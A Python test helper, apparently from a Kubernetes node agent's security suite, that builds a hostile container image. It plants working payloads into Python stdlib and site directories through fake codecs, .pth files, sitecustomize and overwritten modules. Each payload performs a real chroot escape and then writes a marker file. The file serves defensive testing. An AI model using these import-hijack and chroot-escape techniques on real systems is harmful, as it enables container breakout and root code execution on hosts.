"""What a hostile tenant puts into its container image so that a root process on the node that
runs Python inside it (chrooted, or importing from it) runs the tenant's code: modules and
codecs at the paths the node's Python looks at, `.pth` files, `sitecustomize`/`usercustomize`,
and the node's own stdlib and stasis modules with a coding cookie naming a planted codec (a
traceback shown inside a chroot reads them and looks the codec up). Each piece, if it ever
runs, escapes a chroot (as root can) and appends its name to a marker file on the host."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
from pathlib import Path

import stasis
from stasis.k8s import confined, oci, rootfs

EVIL_CODEC = "stasis_evil"

_PAYLOAD = '''
import os as _os
def _stasis_evil():
    try:
        _os.mkdir("/.stasis-escape")
    except OSError:
        pass
    top = _os.open("/", _os.O_RDONLY)
    try:
        _os.chroot("/.stasis-escape")
        _os.fchdir(top)
        for _ in range(64):
            _os.chdir("..")
        _os.chroot(".")
    except OSError:
        pass
    with open(MARKER, "a") as f:
        f.write(WHO + "\\n")
_stasis_evil()
'''


def python_dirs() -> tuple[list[str], list[str]]:
    """The node's Python's stdlib directories and site directories (those of `python -I`, as
    the daemon starts its children, and Debian's dist-packages)."""
    out = subprocess.run(
        [
            sys.executable,
            "-I",
            "-c",
            "import json, sys, site; print(json.dumps(" "[sys.path, site.getsitepackages()]))",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    path, sites = json.loads(out)
    stdlib = [
        p
        for p in path
        if p.startswith("/usr/lib/python3") and p.endswith(f"python3.{sys.version_info.minor}")
    ]
    sites = sorted(
        {
            *sites,
            *[p for p in path if p.endswith("-packages")],
            "/usr/lib/python3/dist-packages",
            f"/usr/local/lib/python3.{sys.version_info.minor}/dist-packages",
        }
    )
    return stdlib, sites


def planted_files(marker: Path) -> dict[str, bytes]:
    """Path inside the image (no leading /) -> contents."""

    def payload(who: str, cookie: bool = False) -> bytes:
        head = f"# -*- coding: {EVIL_CODEC} -*-\n" if cookie else ""
        return (head + f"MARKER = {str(marker)!r}\nWHO = {who!r}\n" + _PAYLOAD).encode()

    files: dict[str, bytes] = {}
    stdlib, sites = python_dirs()
    for d in stdlib:
        files[f"{d}/encodings/{EVIL_CODEC}.py"] = payload(f"codec in {d}")
        for name in ("sitecustomize.py", "usercustomize.py"):
            files[f"{d}/{name}"] = payload(f"{d}/{name}")
        for mod in (
            "tarfile.py",
            "os.py",
            "shutil.py",
            "subprocess.py",
            "codecs.py",
            "traceback.py",
            "linecache.py",
            "zipfile.py",
            "gzip.py",
        ):
            files[f"{d}/{mod}"] = payload(f"{d}/{mod}", cookie=True)
    for d in sites:
        files[f"{d}/stasis_evil.pth"] = b"import stasis_evil_pth\n"
        files[f"{d}/stasis_evil_pth.py"] = payload(f"{d}/stasis_evil.pth")
        for name in ("sitecustomize.py", "usercustomize.py"):
            files[f"{d}/{name}"] = payload(f"{d}/{name}")
    # The node's own code, where the tenant can guess it (the agent image's paths are public).
    for module in (stasis, rootfs, confined, oci):
        path = str(module.__file__)
        files[path] = payload(path, cookie=True)
    return {p.lstrip("/"): data for p, data in files.items()}


def plant(root: Path, marker: Path) -> None:
    """The planted files written into the directory `root` (an image's lower directory)."""
    for rel, data in planted_files(marker).items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


def add_planted(tar: tarfile.TarFile, marker: Path) -> None:
    """The planted files added to an image layer being written."""
    made: set[str] = set()
    for rel, data in sorted(planted_files(marker).items()):
        parts = rel.split("/")
        for i in range(1, len(parts)):
            d = "/".join(parts[:i])
            if d not in made:
                made.add(d)
                info = tarfile.TarInfo(d)
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tar.addfile(info)
        info = tarfile.TarInfo(rel)
        info.size, info.mode = len(data), 0o644
        tar.addfile(info, io.BytesIO(data))
